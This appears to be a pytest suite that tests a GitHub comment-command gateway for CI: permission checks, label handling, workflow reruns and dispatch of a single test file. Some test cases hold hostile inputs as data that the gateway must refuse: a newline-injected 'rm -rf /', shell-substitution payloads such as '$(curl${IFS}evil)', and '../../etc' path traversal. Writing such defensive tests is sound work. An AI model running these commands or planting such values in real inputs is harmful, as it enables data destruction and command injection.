"""`ci-policy comment` end to end: the gateway (ci_policy/adapters/github/gateway.py) through the CLI,
talking through PyGithub to a local fake of the GitHub REST API (tests/github_fake.py).

The fixtures `gh` and `world` come from tests/github_world.py (a plugin registered in conftest.py).
Every test asserts the exact sequence of requests GitHub receives and that the token never
appears in the output or in anything posted.
"""

from __future__ import annotations

import json
import shutil
import socket

import pytest
from github_fake import FakeGitHub, git_blob_sha, workflow_dispatch_definition
from github_world import CALLER_WORKFLOW, COMMENT_ID, HEAD, PR, RUN_NAME_AS_WRITTEN, P, World, inputs

from ci_policy.adapters.github.gateway import run_name

MOVED = "feedfacecafebeef00112233445566778899aabb"
USAGE = ("Accepted commands (the whole comment, one command): `/run-ci-<label>`, `/bypass-fastfail`, "
         "`/clear-labels`, `/rerun-failed-ci`, `/rerun-test <dir>/.../<test file>.py [backend or stage]`, "
         "`/ok-to-test <head sha>`.")
ALLOWED = ("run-ci-megatron, run-ci-fsdp, run-ci-sglang, run-ci-session, run-ci-rocm, run-ci-long, nightly, "
           "bypass-fastfail")


# -- expected requests ---------------------------------------------------------------------------------------

def perm(login: str) -> tuple:
    return ("GET", f"{P}/collaborators/{login}/permission", {}, None)


def reply(body: str) -> tuple:
    return ("POST", f"{P}/issues/{PR}/comments", {}, {"body": body})


REACT = ("POST", f"{P}/issues/comments/{COMMENT_ID}/reactions", {}, {"content": "+1"})
PULL = ("GET", f"{P}/pulls/{PR}", {}, None)


def tree(sha: str = HEAD) -> tuple:
    return ("GET", f"{P}/git/trees/{sha}", {"recursive": "1"}, None)


def blob(data: bytes) -> tuple:
    return ("GET", f"{P}/git/blobs/{git_blob_sha(data)}", {}, None)


def get_label(name: str) -> tuple:
    return ("GET", f"{P}/labels/{name}", {}, None)


def dispatch(inputs: dict, ref: str = "main") -> tuple:
    return ("POST", f"{P}/actions/workflows/ci-policy.yml/dispatches", {}, {"ref": ref, "inputs": inputs})


def start_pipeline(number: int = PR) -> tuple:
    """The dispatch that starts a run of the PR pipeline (ci-policy.yml) for the PR, when no
    pull_request run exists for its head."""
    return ("POST", f"{P}/actions/workflows/ci-policy.yml/dispatches", {},
            {"ref": "main", "inputs": {"pull-request": str(number)}})


def find_pipeline_run(sha: str = HEAD) -> tuple:
    """The lookup of the PR pipeline's latest pull_request run for the head."""
    return ("GET", f"{P}/actions/workflows/ci-policy.yml/runs",
            {"head_sha": sha, "event": "pull_request", "per_page": "1"}, None)


def rerun(run_id: int, what: str = "rerun") -> tuple:
    """`rerun` (the whole run), `rerun-failed-jobs` or `approve` of a pipeline run."""
    return ("POST", f"{P}/actions/runs/{run_id}/{what}", {}, None)


def run_link(run: dict) -> str:
    return f"[run {run['id']}]({run['html_url']})"


DISPATCHED = (f"No `ci-policy.yml` run exists for `{HEAD[:12]}`, so one was dispatched on the default branch: its "
              f"checks show on that branch's head, and it reports `ci-policy/result` on `{HEAD[:12]}`.")


FIND_RUN = ("GET", f"{P}/actions/workflows/ci-policy.yml/runs", {"event": "workflow_dispatch", "per_page": "20"},
            None)


def done(message: str) -> str:
    return f"ci-policy comment: done: {message}\n"


# -- who is heard at all: ignored without a single request ---------------------------------------------------

@pytest.mark.parametrize("event, reason", [
    ({"action": "edited"}, "comment action is 'edited', not 'created'"),
    ({"action": "deleted"}, "comment action is 'deleted', not 'created'"),
    ({"on_pull_request": False}, "the comment is not on a pull request"),
    ({"user_type": "Bot"}, "the comment author is a 'Bot', not a human user"),
    ({"user_type": "Organization"}, "the comment author is a 'Organization', not a human user"),
    ({"sender_id": 5002}, "the comment author is not the event sender"),
    ({"repository": "evil/minirl"}, "the event is for repository 'evil/minirl' (id 424242), not acme/minirl "
                                    "(id 424242)"),
    ({"repository": "acme/minirl-fork"}, "the event is for repository 'acme/minirl-fork' (id 424242), not "
                                         "acme/minirl (id 424242)"),
    ({"repository_id": 424243}, "the event is for repository 'acme/minirl' (id 424243), not acme/minirl "
                                "(id 424242)"),
])
def test_events_that_are_not_a_human_creating_a_pr_comment_here_are_ignored_without_requests(world, event, reason):
    result = world.run("/run-ci-megatron", login="ada", **event)
    assert (result.rc, result.out, result.err) == (0, f"ci-policy comment: ignored: {reason}\n", "")
    assert world.calls() == []


@pytest.mark.parametrize("body", [
    "LGTM!",
    "Thanks, merging after CI.",
    "\u2215run-ci-megatron",      # DIVISION SLASH
    "\uff0frun-ci-megatron",      # FULLWIDTH SOLIDUS
    "\u2215rerun-test tests/e2e/test_megatron_sft.py",
    "\uff0fclear-labels",
])
def test_ordinary_comments_and_look_alike_slashes_are_ignored_without_requests(world, body):
    result = world.run(body, login="ada")
    assert (result.rc, result.out) == (0, "ci-policy comment: ignored: not a command\n")
    assert world.calls() == []


def test_a_command_for_another_job_is_ignored_without_requests(world):
    result = world.run("/rerun-test tests/e2e/test_megatron_sft.py", "--commands", "add_label,clear_labels")
    assert (result.rc, result.out) == (
        0, "ci-policy comment: ignored: /rerun-test tests/e2e/test_megatron_sft.py is handled by another job\n")
    assert world.calls() == []


def test_an_unknown_command_kind_is_a_usage_error(world):
    result = world.run("/clear-labels", "--commands", "clear_labels,bypass_fastfail")
    assert (result.rc, result.out) == (2, "")
    assert result.err == ("ci-policy comment: error: --commands: unknown command kind(s) bypass_fastfail; "
                          "expected some of add_label, clear_labels, rerun_failed_ci, rerun_test, ok_to_test\n")
    assert world.calls() == []


def test_an_invalid_access_policy_stops_before_any_request(world):
    data = world.example_policy()
    data["commands"]["add_label"]["allowed_labels"].append("run-ci-all")
    world.policy(data)
    result = world.run("/run-ci-megatron")
    assert (result.rc, result.out) == (1, "")
    assert result.err == (".github/ci-commands.json: commands.add_label.allowed_labels: 'run-ci-all' is neither "
                          "run-ci-<known label> nor a workflow-only label (nightly, bypass-fastfail)\n"
                          "    hint: known labels are in labels.py\nci-policy: 1 error\n")
    assert world.calls() == []


def test_a_symlinked_access_policy_is_refused(world):
    policy = world.trusted / ".github/ci-commands.json"
    shutil.move(str(policy), str(world.tmp / "elsewhere.json"))
    policy.symlink_to(world.tmp / "elsewhere.json")
    result = world.run("/run-ci-megatron")
    assert result.rc == 1
    assert result.err.startswith(".github/ci-commands.json: CP401 symlink-refused: access policy "
                                 ".github/ci-commands.json is a symlink; "
                                 "ci-policy refuses symlinks in a checkout\n")
    assert world.calls() == []


# -- adding labels -------------------------------------------------------------------------------------------

@pytest.mark.parametrize("login", ["maria", "wendy", "ada", "tom"])
def test_a_helper_adds_an_allowed_existing_label_with_an_app_token_whose_label_event_starts_the_run(world, login):
    result = world.run("/run-ci-megatron", "--token-kind", "app", login=login)
    assert (result.rc, result.out, result.err) == (0, done("added run-ci-megatron"), "")
    assert world.calls() == [
        perm(login),
        get_label("run-ci-megatron"),
        ("POST", f"{P}/issues/{PR}/labels", {}, {"labels": ["run-ci-megatron"]}),
        REACT,
    ]
    assert world.gh.issue_labels[PR] == ["documentation", "run-ci-megatron"]
    assert world.gh.comments == [] and world.gh.dispatches == []


@pytest.mark.parametrize("token_kind", [(), ("--token-kind", "github-token")])
def test_with_the_job_token_a_label_command_adds_the_label_then_reruns_the_heads_pipeline_run(world, token_kind):
    # The job token's label event starts no workflow run: the gateway re-runs the head's
    # pull_request run (its checks attach to the PR head again), whose plan job reads the PR's
    # labels (now with run-ci-megatron) through the API.
    run = world.gh.add_run("ci-policy.yml", head_sha=HEAD, conclusion="success")
    result = world.run("/run-ci-megatron", *token_kind, login="tom")
    assert (result.rc, result.out, result.err) == (
        0, done(f"added run-ci-megatron; re-running run {run['id']} of ci-policy.yml for {HEAD}"), "")
    assert world.calls() == [
        perm("tom"),
        get_label("run-ci-megatron"),
        ("POST", f"{P}/issues/{PR}/labels", {}, {"labels": ["run-ci-megatron"]}),
        PULL,
        find_pipeline_run(),
        rerun(run["id"]),
        REACT,
    ]
    assert world.gh.full_reruns == [run["id"]] and world.gh.dispatches == [] and world.gh.comments == []
    assert (run["event"], run["head_sha"], run["run_attempt"]) == ("pull_request", HEAD, 2)


def test_with_the_job_token_and_no_run_for_the_head_a_label_command_dispatches_the_pipeline(world):
    # A run for an older head is never re-run for this one.
    world.gh.add_run("ci-policy.yml", head_sha=MOVED, conclusion="failure")
    result = world.run("/run-ci-megatron", login="tom")
    assert (result.rc, result.out) == (
        0, done(f"added run-ci-megatron; dispatched ci-policy.yml for #{PR} (no run for {HEAD})"))
    assert world.calls() == [
        perm("tom"), get_label("run-ci-megatron"),
        ("POST", f"{P}/issues/{PR}/labels", {}, {"labels": ["run-ci-megatron"]}),
        PULL, find_pipeline_run(), start_pipeline(), REACT,
        reply(f"> /run-ci-megatron\n\nadded `run-ci-megatron`. {DISPATCHED}")]
    assert world.gh.dispatches == [{"workflow": "ci-policy.yml", "ref": "main", "inputs": {"pull-request": "7"}}]
    assert world.gh.full_reruns == world.gh.reruns == []


def test_with_the_job_token_a_running_run_is_not_rerun_and_the_reply_says_so(world):
    run = world.gh.add_run("ci-policy.yml", head_sha=HEAD, conclusion=None, status="in_progress")
    result = world.run("/run-ci-megatron", login="tom")
    assert (result.rc, result.out) == (
        0, done(f"added run-ci-megatron; run {run['id']} of ci-policy.yml for {HEAD} is still running; not re-run"))
    assert world.calls() == [
        perm("tom"), get_label("run-ci-megatron"),
        ("POST", f"{P}/issues/{PR}/labels", {}, {"labels": ["run-ci-megatron"]}),
        PULL, find_pipeline_run(), REACT,
        reply(f"> /run-ci-megatron\n\nadded `run-ci-megatron`. {run_link(run)} for `{HEAD[:12]}` is still running, "
              "so it was not re-run: comment again once it has finished.")]



@pytest.mark.parametrize("named, extra, workflow", [
    (False, (), "ci-policy.yml"),                                # the gateway's default: the one caller file
    (False, ("--pipeline-workflow", "gpu-ci.yml"), "gpu-ci.yml"),  # the gateway's input
    (True, ("--pipeline-workflow", "gpu-ci.yml"), "ci-policy.yml"),  # the policy's own wins
])
def test_the_pipeline_dispatched_is_the_policys_else_the_gateways(world, named, extra, workflow):
    data = world.example_policy()
    if not named:
        del data["pipeline"]
    world.policy(data)
    world.gh.workflows["gpu-ci.yml"] = workflow_dispatch_definition(CALLER_WORKFLOW)
    result = world.run("/run-ci-megatron", *extra, login="tom")
    assert (result.rc, result.out) == (0, done(f"added run-ci-megatron; dispatched {workflow} for #{PR} "
                                               f"(no run for {HEAD})"))
    assert world.gh.dispatches == [{"workflow": workflow, "ref": "main", "inputs": {"pull-request": "7"}}]
    assert world.calls()[4] == ("GET", f"{P}/actions/workflows/{workflow}/runs",
                                {"head_sha": HEAD, "event": "pull_request", "per_page": "1"}, None)


@pytest.mark.parametrize("option", ["--pipeline-workflow", "--rerun-test-workflow"])
def test_a_workflow_option_that_is_not_a_file_name_is_a_usage_error(world, option):
    result = world.run("/run-ci-megatron", option, "../pr-test.yml", login="tom")
    assert (result.rc, result.out) == (2, "")
    assert result.err == (f"ci-policy comment: error: {option}: '../pr-test.yml' is not a workflow file name\n"
                          "    hint: the file name under .github/workflows, e.g. ci-policy.yml\n")
    assert world.calls() == []


def test_bypass_fastfail_adds_its_workflow_label(world):
    result = world.run("  /bypass-fastfail\r\n", "--token-kind", "app", login="tom")
    assert (result.rc, result.out) == (0, done("added bypass-fastfail"))
    assert world.calls() == [
        perm("tom"), get_label("bypass-fastfail"),
        ("POST", f"{P}/issues/{PR}/labels", {}, {"labels": ["bypass-fastfail"]}), REACT]
    world.gh.requests.clear()
    run = world.gh.add_run("ci-policy.yml", head_sha=HEAD, conclusion="failure")
    result = world.run("/bypass-fastfail", login="tom")
    assert (result.rc, result.out) == (0, done(f"added bypass-fastfail; re-running run {run['id']} of ci-policy.yml "
                                               f"for {HEAD}"))
    assert world.calls() == [
        perm("tom"), get_label("bypass-fastfail"),
        ("POST", f"{P}/issues/{PR}/labels", {}, {"labels": ["bypass-fastfail"]}), PULL, find_pipeline_run(),
        rerun(run["id"]), REACT]


def test_a_read_only_user_on_the_user_id_allowlist_may_add_labels(world):
    result = world.run("/run-ci-fsdp", "--token-kind", "app", login="hank")
    assert (result.rc, result.out) == (0, done("added run-ci-fsdp"))
    assert world.calls() == [perm("hank"), get_label("run-ci-fsdp"),
                             ("POST", f"{P}/issues/{PR}/labels", {}, {"labels": ["run-ci-fsdp"]}), REACT]


def test_the_allowlist_is_by_user_id_not_by_login(world):
    # A read-only user who takes the login of an allowlisted user is still refused: ids decide.
    world.gh.user_ids["hank"] = 6666
    result = world.run("/run-ci-fsdp", login="hank", user_id=6666)
    assert (result.rc, result.out) == (0, "ci-policy comment: refused: hank (read) is not in group ci-helpers\n")
    assert world.calls() == [perm("hank"), reply(
        "> /run-ci-fsdp\n\n@hank is not allowed to use `/run-ci-fsdp` (it needs the ci-helpers group; your "
        "repository permission is read).")]


@pytest.mark.parametrize("login, permission", [("rita", "read"), ("mallory", "read")])
def test_an_unauthorised_user_gets_a_reply_and_nothing_else(world, login, permission):
    result = world.run("/run-ci-megatron", login=login, author_association="OWNER")  # never trusted
    assert (result.rc, result.out) == (0, f"ci-policy comment: refused: {login} ({permission}) is not in group "
                                          "ci-helpers\n")
    assert world.calls() == [perm(login), reply(
        f"> /run-ci-megatron\n\n@{login} is not allowed to use `/run-ci-megatron` (it needs the ci-helpers group; "
        f"your repository permission is {permission}).")]
    assert [r.method for r in world.gh.mutating] == ["POST"]
    assert world.gh.issue_labels[PR] == ["documentation"]


def test_a_permission_answer_for_another_user_id_is_not_trusted(world):
    # The login was renamed and now belongs to someone else: the answer is about them.
    world.gh.user_ids["wendy"] = 7777
    result = world.run("/clear-labels", login="wendy", user_id=5002)
    assert (result.rc, result.out) == (0, "ci-policy comment: refused: wendy (none) is not in group ci-helpers\n")
    assert [r.method for r in world.gh.mutating] == ["POST"]


def test_a_user_the_permission_endpoint_does_not_know_has_no_permission(world):
    world.gh.missing_users.add("ghost")
    result = world.run("/clear-labels", login="ghost")
    assert (result.rc, result.out) == (0, "ci-policy comment: refused: ghost (none) is not in group ci-helpers\n")
    assert world.calls() == [perm("ghost"), reply(
        "> /clear-labels\n\n@ghost is not allowed to use `/clear-labels` (it needs the ci-helpers group; your "
        "repository permission is none).")]


def test_the_role_decides_not_the_legacy_permission_field(world):
    # GitHub reports triage as "permission": "read" and maintain as "write"; the role is in role_name.
    data = world.example_policy()
    data["groups"]["maintainers"]["repository_permissions"] = ["admin", "maintain"]
    world.policy(data)
    result = world.run("/rerun-failed-ci", login="maria")  # maintain: legacy permission "write"
    assert result.out == done(f"dispatched ci-policy.yml for #{PR} (no run for {HEAD})")
    assert world.calls() == [perm("maria"), PULL, find_pipeline_run(), start_pipeline(), REACT,
                             reply(f"> /rerun-failed-ci\n\n{DISPATCHED}")]
    world.gh.requests.clear()
    result = world.run("/rerun-failed-ci", login="wendy")
    assert result.out == "ci-policy comment: refused: wendy (write) is not in group maintainers\n"
    assert world.calls() == [perm("wendy"), reply(
        "> /rerun-failed-ci\n\n@wendy is not allowed to use `/rerun-failed-ci` (it needs the maintainers group; "
        "your repository permission is write).")]


def test_a_triage_user_is_refused_a_maintainer_command(world):
    result = world.run("/rerun-test tests/e2e/test_megatron_sft.py", login="tom")
    assert result.out == "ci-policy comment: refused: tom (triage) is not in group maintainers\n"
    assert world.calls() == [perm("tom"), reply(
        "> /rerun-test tests/e2e/test_megatron_sft.py\n\n@tom is not allowed to use "
        "`/rerun-test tests/e2e/test_megatron_sft.py` (it needs the maintainers group; your repository permission "
        "is triage).")]


@pytest.mark.parametrize("body, label", [("/run-ci-all", "run-ci-all"),
                                         ("/run-ci-documentation", "run-ci-documentation"),
                                         ("/run-ci-Megatron", "run-ci-Megatron")])
def test_a_label_the_policy_does_not_allow_is_refused(world, body, label):
    result = world.run(body, login="ada")
    assert (result.rc, result.out) == (0, f"ci-policy comment: refused: label {label} is not allowed\n")
    assert world.calls() == [perm("ada"), reply(
        f"> {body}\n\n`{label}` is not a label this command may add (allowed: {ALLOWED}).")]


def test_bypass_fastfail_needs_to_be_an_allowed_label(world):
    data = world.example_policy()
    data["commands"]["add_label"]["allowed_labels"].remove("bypass-fastfail")
    world.policy(data)
    result = world.run("/bypass-fastfail", login="ada")
    assert result.out == "ci-policy comment: refused: label bypass-fastfail is not allowed\n"
    assert world.calls() == [perm("ada"), reply(
        "> /bypass-fastfail\n\n`bypass-fastfail` is not a label this command may add (allowed: run-ci-megatron, "
        "run-ci-fsdp, run-ci-sglang, run-ci-session, run-ci-rocm, run-ci-long, nightly).")]


def test_an_allowed_label_that_does_not_exist_is_not_created(world):
    # Adding a missing label to an issue would create it: the gateway checks first.
    result = world.run("/run-ci-rocm", login="ada")
    assert (result.rc, result.out) == (0, "ci-policy comment: refused: label run-ci-rocm does not exist\n")
    assert world.calls() == [perm("ada"), get_label("run-ci-rocm"), reply(
        "> /run-ci-rocm\n\nthe label `run-ci-rocm` does not exist in this repository.")]
    assert "run-ci-rocm" not in world.gh.repo_labels


def test_a_command_the_policy_does_not_configure_is_refused_to_those_who_may_use_another(world):
    data = world.example_policy()
    del data["commands"]["clear_labels"]
    world.policy(data)
    result = world.run("/clear-labels", login="ada")
    assert (result.rc, result.out) == (0, "ci-policy comment: refused: /clear-labels is not enabled\n")
    assert world.calls() == [perm("ada"),
                             reply("> /clear-labels\n\n`/clear-labels` is not enabled for this repository.")]


def test_a_command_the_policy_does_not_configure_is_ignored_from_anyone_else(world):
    data = world.example_policy()
    del data["commands"]["clear_labels"]
    world.policy(data)
    result = world.run("/clear-labels", login="rita")
    assert (result.rc, result.out) == (
        0, "ci-policy comment: ignored: /clear-labels is not enabled, from a commenter who may use no command\n")
    assert world.calls() == [perm("rita")]


# -- comments that are not exactly one command ---------------------------------------------------------------

@pytest.mark.parametrize("body", [
    "/run-ci-megatron /run-ci-fsdp",
    "/run-ci-megatron\n/clear-labels",
    "/rerun-test tests/e2e/test_megatron_sft.py\n/run-ci-megatron",       # newline injection
    "/rerun-test tests/e2e/test_megatron_sft.py\nrm -rf /",
    "please /rerun-failed-ci",
])
def test_more_than_one_command_gets_the_usage_and_nothing_else(world, body):
    result = world.run(body, login="hank")  # read permission, but on the ci-helpers allowlist
    assert (result.rc, result.out) == (0, "ci-policy comment: refused: not exactly one command\n")
    assert world.calls() == [perm("hank"), reply(f"this comment is not exactly one command. {USAGE}")]


@pytest.mark.parametrize("login", ["rita", "mallory"])
@pytest.mark.parametrize("body", ["/run-ci-megatron /run-ci-fsdp", "/rerun-test ../x.py", "/ok-to-test HEAD",
                                  "please /rerun-failed-ci"])
def test_a_malformed_command_from_someone_who_may_use_none_gets_no_reply(world, login, body):
    result = world.run(body, login=login)
    assert (result.rc, result.out, result.err) == (
        0, "ci-policy comment: ignored: not exactly one command, from a commenter who may use none\n", "")
    assert world.calls() == [perm(login)]
    assert world.gh.comments == []


@pytest.mark.parametrize("path, shown", [
    ("tests/../../etc/test_passwd.py", "tests/../../etc/test_passwd.py"),
    ("/etc/test_passwd.py", "/etc/test_passwd.py"),
    ("tests/e2e/$(id)/test_a.py", "tests/e2e/??id?/test_a.py"),
    ("tests/e2e/test_a.py;$(curl${IFS}evil)", "tests/e2e/test_a.py???curl??IFS?evil?"),
    ("tests/e2e/test_`id`.py", "tests/e2e/test_?id?.py"),
])
def test_an_unsafe_rerun_path_gets_a_reply_and_nothing_else(world, path, shown):
    result = world.run(f"/rerun-test {path}", login="maria")
    assert (result.rc, result.out) == (0, "ci-policy comment: refused: not exactly one command\n")
    assert world.calls() == [perm("maria"),
                             reply(f"`{shown}` is not a repo-relative test file path of safe segments (letters, "
                                   f"digits, '_', '.', '-'; no '..') ending in .py. {USAGE}")]


# -- clearing labels -----------------------------------------------------------------------------------------

def test_clear_labels_removes_only_ci_labels_with_url_encoded_names(world):
    world.gh.issue_labels[PR] = ["run-ci-megatron", "good first issue", "nightly", "bypass-fastfail",
                                 "nightly-build", "run-ci-ä b/c", "Run-CI-fsdp", "documentation", "run-ci-long",
                                 "ci: run-ci-x"]
    result = world.run("/clear-labels", login="tom")
    assert (result.rc, result.out) == (0, done("removed 5 CI label(s): run-ci-megatron, nightly, bypass-fastfail, "
                                               "run-ci-ä b/c, run-ci-long"))
    base = f"{P}/issues/{PR}/labels"
    assert world.calls() == [
        perm("tom"),
        ("GET", base, {"per_page": "100"}, None),
        ("DELETE", f"{base}/run-ci-megatron", {}, None),
        ("DELETE", f"{base}/nightly", {}, None),
        ("DELETE", f"{base}/bypass-fastfail", {}, None),
        ("DELETE", f"{base}/run-ci-%C3%A4%20b%2Fc", {}, None),
        ("DELETE", f"{base}/run-ci-long", {}, None),
        REACT,
    ]
    assert world.gh.issue_labels[PR] == ["good first issue", "nightly-build", "Run-CI-fsdp", "documentation",
                                         "ci: run-ci-x"]


def test_clear_labels_without_ci_labels_reacts_and_says_so(world):
    result = world.run("/clear-labels", login="tom")
    assert (result.rc, result.out) == (0, done("removed 0 CI label(s)"))
    assert world.calls() == [perm("tom"), ("GET", f"{P}/issues/{PR}/labels", {"per_page": "100"}, None), REACT,
                             reply("> /clear-labels\n\nthere were no CI labels to remove.")]


# -- rerunning failed jobs -----------------------------------------------------------------------------------

@pytest.mark.parametrize("token_kind", ["github-token", "app"])
def test_rerun_failed_ci_reruns_only_the_failed_jobs_of_the_heads_latest_pull_request_run(world, token_kind):
    gh = world.gh
    gh.add_run("ci-policy.yml", head_sha=MOVED, conclusion="failure")          # an older head's: never re-run
    older = gh.add_run("ci-policy.yml", head_sha=HEAD, conclusion="failure")
    gh.add_run("ci-policy.yml", head_sha=HEAD, conclusion="success", event="workflow_dispatch")
    latest = gh.add_run("ci-policy.yml", head_sha=HEAD, conclusion="failure")
    result = world.run("/rerun-failed-ci", "--token-kind", token_kind, login="wendy")
    assert (result.rc, result.out, result.err) == (
        0, done(f"re-running the failed jobs of run {latest['id']} of ci-policy.yml for {HEAD}"), "")
    assert world.calls() == [perm("wendy"), PULL, find_pipeline_run(), rerun(latest["id"], "rerun-failed-jobs"),
                             REACT]
    # The same run, a new attempt: its checks attach to the PR head again.
    assert gh.reruns == [latest["id"]] and gh.full_reruns == [] and gh.dispatches == []
    assert (latest["event"], latest["head_sha"], latest["run_attempt"]) == ("pull_request", HEAD, 2)
    assert older["run_attempt"] == 1


def test_rerun_failed_ci_of_a_run_that_passed_reruns_nothing(world):
    run = world.gh.add_run("ci-policy.yml", head_sha=HEAD, conclusion="success")
    result = world.run("/rerun-failed-ci", login="wendy")
    assert (result.rc, result.out) == (0, done(f"run {run['id']} of ci-policy.yml for {HEAD} succeeded; nothing to "
                                               "re-run"))
    assert world.calls() == [perm("wendy"), PULL, find_pipeline_run(), REACT, reply(
        f"> /rerun-failed-ci\n\n{run_link(run)} for `{HEAD[:12]}` succeeded: there is no failed job to re-run.")]
    assert world.gh.reruns == []


def test_rerun_failed_ci_reads_the_head_at_comment_time(world):
    # The PR moved on: the run of the new head is the one looked for; the old head's is left alone.
    old = world.gh.add_run("ci-policy.yml", head_sha=HEAD, conclusion="failure")
    world.gh.pulls[PR].head_sha = MOVED
    new = world.gh.add_run("ci-policy.yml", head_sha=MOVED, conclusion="failure")
    result = world.run("/rerun-failed-ci", login="wendy")
    assert result.rc == 0
    assert world.calls() == [perm("wendy"), PULL, find_pipeline_run(MOVED), rerun(new["id"], "rerun-failed-jobs"),
                             REACT]
    assert world.gh.reruns == [new["id"]] and old["run_attempt"] == 1


def test_a_failed_dispatch_is_reported(world):
    world.gh.fail("POST", f"{P}/actions/workflows/ci-policy.yml/dispatches", 422,
                  "Workflow does not have 'workflow_dispatch' trigger")
    result = world.run("/rerun-failed-ci", login="wendy")
    assert (result.rc, result.out) == (1, "ci-policy comment: failed: GitHub API error 422: Workflow does not have "
                                          "'workflow_dispatch' trigger\n")
    assert world.calls() == [perm("wendy"), PULL, find_pipeline_run(), start_pipeline(), reply(
        "> /rerun-failed-ci\n\n`/rerun-failed-ci` failed: GitHub API error 422: Workflow does not have "
        "'workflow_dispatch' trigger.")]


def test_a_refused_rerun_is_reported(world):
    run = world.gh.add_run("ci-policy.yml", head_sha=HEAD, conclusion="failure")
    world.gh.fail("POST", f"{P}/actions/runs/{run['id']}/rerun-failed-jobs", 403, "Resource not accessible by "
                  "integration")
    result = world.run("/rerun-failed-ci", login="wendy")
    assert (result.rc, result.out) == (1, "ci-policy comment: failed: GitHub API error 403: Resource not accessible "
                                          "by integration\n")
    assert world.calls() == [perm("wendy"), PULL, find_pipeline_run(), rerun(run["id"], "rerun-failed-jobs"), reply(
        "> /rerun-failed-ci\n\n`/rerun-failed-ci` failed: GitHub API error 403: Resource not accessible by "
        "integration.")]


# -- rerunning one test file ---------------------------------------------------------------------------------

def test_rerun_test_dispatches_the_file_at_the_head_and_replies_with_the_run(world):
    gh = world.gh
    file = "tests/e2e/test_megatron_sft.py"
    # Other dispatched runs: an older one of the same file at another commit, and a newer one.
    gh.add_run("ci-policy.yml", head_sha="0" * 40, conclusion="success", event="workflow_dispatch",
               display_title=run_name(PR, file, MOVED))
    gh.on_dispatch = lambda fake, run: fake.add_run(
        "ci-policy.yml", head_sha="0" * 40, conclusion=None, status="queued", event="workflow_dispatch",
        display_title=run_name(8, "tests/e2e/test_fsdp_grpo.py", MOVED))
    result = world.run(f"/rerun-test {file}", login="maria")
    (ours,) = [r for r in gh.runs["ci-policy.yml"] if r["display_title"] == run_name(PR, file, HEAD)]
    assert (result.rc, result.out, result.err) == (0, done(f"dispatched ci-policy.yml for {file} at {HEAD}"), "")
    body = (f"> /rerun-test {file}\n\nRerunning `{file}` (cuda, stage-b-1-gpu-h200) on [h200, 1gpu] at "
            f"{HEAD[:12]}, timeout 900s: https://github.com/acme/minirl/actions/runs/{ours['id']}")
    assert world.calls() == [
        perm("maria"), PULL, tree(),
        blob(world.pr_bytes("labels.py")), blob(world.pr_bytes(file)),
        dispatch(inputs(file)),
        FIND_RUN,
        REACT,
        reply(body),
    ]
    assert ours["display_title"] == f"rerun {file} for #{PR} at {HEAD}"


def dispatched(world: World, file: str, sent: dict, placement: str, *, login: str = "maria",
               ref: str = "main", labels: bytes | None = None) -> list[tuple]:
    """The exact requests of a successful /rerun-test: reads, dispatch, finding the run, +1, reply."""
    sha = sent["head_sha"]
    (run,) = [r for r in world.gh.runs["ci-policy.yml"] if r["display_title"] == run_name(PR, file, sha)]
    return [
        perm(login), PULL, tree(sha),
        blob(world.pr_bytes("labels.py") if labels is None else labels), blob(world.pr_bytes(file)),
        dispatch(sent, ref),
        FIND_RUN,
        REACT,
        reply(f"> /rerun-test {file}\n\nRerunning `{file}` {placement}: "
              f"https://github.com/acme/minirl/actions/runs/{run['id']}"),
    ]


def test_rerun_test_of_a_rocm_file_runs_on_the_rocm_runners_with_every_pin(world):
    world.gh.pulls[PR].body = "ci-megatron-pr: 1234567\nci-image-tag: rocm-6.4_nightly\nci-sglang-pr: 1"
    file = "tests/e2e/test_rocm_megatron_sft.py"
    result = world.run(f"/rerun-test {file}", login="ada")
    assert (result.rc, result.out) == (0, done(f"dispatched ci-policy.yml for {file} at {HEAD}"))
    sent = inputs(file, image_tag="rocm-6.4_nightly", sglang_pr="1", megatron_pr="1234567")
    assert world.calls() == dispatched(world, file, sent, f"(rocm, stage-c-4-gpu-mi350) on [mi350, 4gpu] at "
                                       f"{HEAD[:12]}, timeout 1620s", login="ada")


def test_rerun_test_dispatches_on_the_configured_ref_without_pins(world):
    data = world.example_policy()
    data["commands"]["rerun_test"]["ref"] = "ci/rerun"
    world.policy(data)
    world.gh.branches["ci/rerun"] = "c" * 40
    world.gh.pulls[PR].body = None
    file = "tests/fast/test_kl.py"
    result = world.run(f"/rerun-test {file}", login="ada")
    assert (result.rc, result.out) == (0, done(f"dispatched ci-policy.yml for {file} at {HEAD}"))
    assert world.calls() == dispatched(world, file, inputs(file, image_tag="", sglang_pr=""),
                                       f"(cpu, stage-a-cpu) on [ubuntu-latest] at {HEAD[:12]}, timeout 900s",
                                       login="ada", ref="ci/rerun")


@pytest.mark.parametrize("target", ["rocm", "stage-c-4-gpu-mi350"])
def test_a_named_backend_or_stage_picks_the_registration_and_is_dispatched_as_its_stage(world, target):
    # finding 10: /rerun-test <file> [backend|stage]
    file = "tests/e2e/test_rocm_fsdp_grpo.py"
    result = world.run(f"/rerun-test {file} {target}")
    assert result.out == done(f"dispatched ci-policy.yml for {file} at {HEAD}")
    sent = {**inputs(file), "stage": "stage-c-4-gpu-mi350"}
    calls = world.calls()
    assert calls[5] == dispatch({k: sent[k] for k in ("pull_number", "head_sha", "test_file", "image_tag", "stage",
                                                       "sglang_pr", "megatron_pr")}, "main")
    assert calls[-1][-1]["body"].startswith(f"> /rerun-test {file} {target}\n\nRerunning `{file}` (rocm, "
                                            "stage-c-4-gpu-mi350) on [mi350, 4gpu]")


SHARED_ROCM = ("  - name: stage-c-4-gpu-h200\n    backend: rocm\n    runs_on: [mi350, 4gpu]\n"
               "    variants: [{name: mi350}, {name: mi355, runs_on: [mi355, 4gpu]}]\n")


@pytest.mark.parametrize("target, stage, runs_on", [
    ("stage-c-4-gpu-h200@rocm", "stage-c-4-gpu-h200@rocm", "mi350, 4gpu"),
    ("stage-c-4-gpu-h200@rocm+mi355", "stage-c-4-gpu-h200@rocm+mi355", "mi355, 4gpu"),
    ("rocm", "stage-c-4-gpu-h200@rocm", "mi350, 4gpu"),
])
def test_a_suite_shared_by_two_backends_is_dispatched_as_the_named_backend_s_stage(world, target, stage, runs_on):
    # sglang: one suite for CUDA and AMD; each backend's stage (and each variant) is dispatched by its key,
    # so the rerun workflow resolves the same registration and runners.
    file = "tests/e2e/test_rocm_fsdp_grpo.py"
    for checkout in (world.trusted, world.pr):
        config = checkout / ".github" / "ci-policy.yml"
        config.write_text(config.read_text().replace("  # Runs on an externally managed", SHARED_ROCM
                                                     + "  # Runs on an externally managed"))
    test = world.pr / file
